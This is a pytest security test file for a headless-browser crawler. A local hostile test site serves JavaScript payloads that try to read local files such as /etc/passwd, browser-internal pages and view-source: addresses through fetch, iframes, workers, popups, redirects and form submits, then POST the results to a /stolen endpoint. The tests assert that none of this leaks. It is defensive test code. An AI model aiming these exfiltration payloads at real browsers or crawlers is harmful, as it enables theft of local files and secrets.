"""Pages that try to read the files of this machine, and the browser's own pages: nothing of them gets out.

Each attack is a page that does what it can with an address, and tells its server what it has read. With an address of
the page's own site instead the same attacks do read it, which shows that they would tell.
"""

import asyncio
from collections.abc import Iterator
from pathlib import Path
from typing import Any
from urllib.parse import quote

import pytest

from browsercrawl import Crawler, CrawlerConfig, Request, Result
from browsercrawl.testing.server import Exchange, Server

SECRET = "planted-in-a-file"
SHARED = Path("/etc/passwd")

HEAD = """<!doctype html><title>page</title><script>
function done() { document.documentElement.id = 'done' }
function steal(text) { return fetch('/stolen?by=' + location.pathname.slice(1), {method: 'POST', body: text}) }
function peek(view) { try { steal(view.document.documentElement.outerHTML) } catch {} }
setTimeout(done, 900)
</script>"""
READS = {
    "fetch": "<script>fetch('TARGET').then(r => r.text()).then(steal).finally(done)</script>",
    "xhr": "<script>x = new XMLHttpRequest(); x.open('GET', 'TARGET'); x.onload = () => steal(x.responseText);"
    "x.send()</script>",
    "iframe": "<iframe src='TARGET' onload='peek(this.contentWindow)'></iframe>",
    "iframe-in-srcdoc": "<iframe srcdoc=\"<iframe src='TARGET' onload='parent.peek(this.contentWindow)'></iframe>\">"
    "</iframe>",
    "object": "<object data='TARGET' type=text/html onload='peek(this.contentWindow)'></object>",
    "popup": "<script>w = window.open('TARGET'); setTimeout(() => peek(w), 500)</script>",
    "worker": "<script>new Worker(URL.createObjectURL(new Blob([\"fetch('ABSOLUTE').then(r => r.text())"
    '.then(postMessage)"]))).onmessage = e => steal(e.data)</script>',
    "module": "<script type=module>import('TARGET').then(m => steal(m.default))</script>",
    "script": "<script src='TARGET' onload='steal(window.read)'></script>",
    "script-worker": "<script>new Worker('TARGET').onmessage = e => steal(e.data)</script>",
}
MOVES = {
    "location": "<script>setTimeout(() => { location = 'TARGET' }, 100)</script>",
    "refresh": "<meta http-equiv=refresh content='0;url=TARGET'>",
    "form": "<form action='TARGET'></form><script>setTimeout(() => document.forms[0].submit(), 100)</script>",
    "form-post": "<form method=post action='TARGET'></form><script>document.forms[0].submit()</script>",
    "click": "<a id=go href='TARGET'>x</a><script>go.click()</script>",
    "download": "<a id=go href='TARGET' download>x</a><script>go.click()</script>",
    "top": "<iframe srcdoc=\"<script>top.location = 'TARGET'</script>\"></iframe>",
    "opened": "<script>window.open('TARGET', '_self')</script>",
    "link": "<a href='TARGET'>x</a>",
}
PAGES = ("chrome://version/", "devtools://devtools/bundled/inspector.html", "view-source:SITE", "data:text/html,DATA")
CONTROLS = {
    "module": "export default '{secret}'",
    "script": "window.read = '{secret}'",
    "script-worker": "postMessage('{secret}')",
}
"""What the site's own address says to the attacks that read a program only."""


class Site:
    """A hostile site: what it was told is kept."""

    def __init__(self) -> None:
        self.target = ""
        self.stolen: dict[str, str] = {}
        self._server = Server(self._answer)
        self.url = f"http://127.0.0.1:{self._server.port}/"

    def stop(self) -> None:
        """Close it."""
        self._server.stop()

    def _answer(self, exchange: Exchange) -> None:
        name = exchange.path.strip("/")
        if name == "stolen":
            self.stolen[exchange.query["by"]] = exchange.body.decode(errors="replace")
            exchange.respond("")
        elif name == "moved":
            exchange.respond(status=302, headers={"Location": self.target})
        elif name.startswith("own-"):
            kind = name.removeprefix("own-")
            text = CONTROLS.get(kind, "<p>{secret}").replace("{secret}", SECRET)
            exchange.respond(text, content_type="text/javascript" if kind in CONTROLS else "text/html")
        else:
            target = self.target or f"/own-{name}"
            absolute = self.target or f"{self.url}own-{name}"
            page = (READS | MOVES)[name].replace("TARGET", target).replace("ABSOLUTE", absolute)
            exchange.respond(HEAD + page)


@pytest.fixture(scope="module")
def site() -> Iterator[Site]:
    """The site."""
    opened = Site()
    yield opened
    opened.stop()


@pytest.fixture
def secret(tmp_path: Path) -> Path:
    """A file of the test's own."""
    path = tmp_path / "secret.html"
    path.write_text(f"<p>{SECRET}</p>")
    return path


async def attacked(site: Site, run: Path, target: str, names: list[str]) -> dict[str, Result]:
    """Crawl the attacks on an address, with all that a crawl can keep; return the results by name."""
    site.target = target
    site.stolen.clear()
    config: dict[str, Any] = {
        "concurrency": 6,
        "output": run,
        "retry": {"retries": 0},
        "visit": {"timeout_s": 6, "wait_for": "#done", "save": ["html", "text", "download"]},
        "links": {"depth": 1, "scope": "any"},
    }
    async with Crawler(CrawlerConfig.load(config)) as crawler:
        stream = crawler.stream([Request(url=site.url + name) for name in names])
        return {result.url.removeprefix(site.url): result async for result in stream}


def spilt(results: dict[str, Result], run: Path, site: Site, *, texts: list[str]) -> list[str]:
    """Return where any of these texts has come to: a result, what the site was told, or a file of the run."""
    places = {f"result of {name}": repr(result) for name, result in results.items()}
    places |= {f"told by {name}": text for name, text in site.stolen.items()}
    files = (path for path in run.rglob("*") if path.is_file())
    places |= {str(path.name): path.read_bytes().decode(errors="replace") for path in files}
    return [place for place, said in places.items() if any(text in said for text in texts)]


async def test_attack_on_its_own_site_reads_it(site: Site, tmp_path: Path) -> None:
    """The same pages do read what they may: that they tell nothing else is the browser's doing, not their failing."""
    results = await attacked(site, tmp_path / "run", "", list(READS))
    assert {name for name, said in site.stolen.items() if SECRET in said} == set(READS)
    assert all(result.outcome == "succeeded" for result in results.values())


@pytest.mark.parametrize("place", ["own", "shared", "source"])
async def test_attack_on_files_reads_nothing(site: Site, tmp_path: Path, secret: Path, place: str) -> None:
    """Frames, fetches, workers, popups, forms, links, redirects and downloads: no file is read, kept or told.

    A redirect to a file is a failure; no page becomes another.
    """
    target = ("view-source:" if place == "source" else "") + (SHARED if place == "shared" else secret).as_uri()
    texts = [SECRET, *await asyncio.to_thread(lambda: SHARED.read_text().splitlines()[:1])]
    names = [*READS, *MOVES, "moved"]
    results = await attacked(site, tmp_path / "run", target, names)
    assert spilt(results, tmp_path / "run", site, texts=texts) == []
    assert results["moved"].outcome == "failed"
    assert {result.final_url for result in results.values()} - {None} <= {site.url + name for name in names}


@pytest.mark.parametrize("target", PAGES)
async def test_attack_on_pages_of_the_browser_opens_none(site: Site, tmp_path: Path, target: str) -> None:
    """No page gets its tab to one of the browser's own pages, to a source or to a page made of an address."""
    address = target.replace("SITE", f"{site.url}own-page").replace("DATA", quote(f"<p>{SECRET}</p>"))
    names = [*MOVES, "popup", "iframe", "moved"]
    if target.startswith("data:"):
        names.remove("download")  # of what the page has made itself: that is a download like another
    results = await attacked(site, tmp_path / "run", address, names)
    assert spilt(results, tmp_path / "run", site, texts=[f">{SECRET}<", "Command Line", "chrome_version"]) == []
    assert results["moved"].outcome == "failed"
    assert {result.final_url for result in results.values()} - {None} <= {site.url + name for name in names}


async def test_seeds_of_other_schemes_are_refused(secret: Path) -> None:
    """What is not http or https is no input, whoever gives it: it fails without a visit."""
    schemes = ("file", "chrome", "devtools", "view-source", "data", "javascript", "blob", "about")
    urls = [f"{scheme}:{'//' if scheme in {'file', 'chrome'} else ''}{secret}" for scheme in schemes]
    async with Crawler(CrawlerConfig()) as crawler:
        results = [each async for each in crawler.stream(urls)]
    assert len(results) == len(urls)
    assert {(each.outcome, each.attempts, each.error and each.error.kind) for each in results} == {
        ("failed", 0, "url_invalid")
    }
